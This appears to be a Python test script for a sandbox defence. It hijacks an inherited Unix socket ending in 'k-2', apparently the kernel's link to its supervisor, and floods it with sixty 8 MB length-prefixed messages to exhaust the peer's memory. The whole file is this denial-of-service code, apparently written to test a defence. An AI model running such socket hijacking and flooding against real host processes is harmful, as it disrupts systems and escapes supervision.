# takes a connection of its kernel's, and sends a message of ever more parts, which nobody can read before its last part
# remark: too much
# ruff: noqa
import os
import socket
import time

for name in os.listdir("/proc/self/fd"):
    try:
        reader = socket.socket(fileno=os.dup(int(name)))
        if reader.family == socket.AF_UNIX and str(reader.getsockname()).endswith("k-2"):
            reader.getpeername()
            break
    except OSError:
        pass
reader.setblocking(True)
part = b"x" * 8_000_000
for _ in range(60):  # no more than that, to spare the machine on which the defence is taken away
    reader.sendall(b"\x03" + len(part).to_bytes(8, "big") + part)
time.sleep(2)
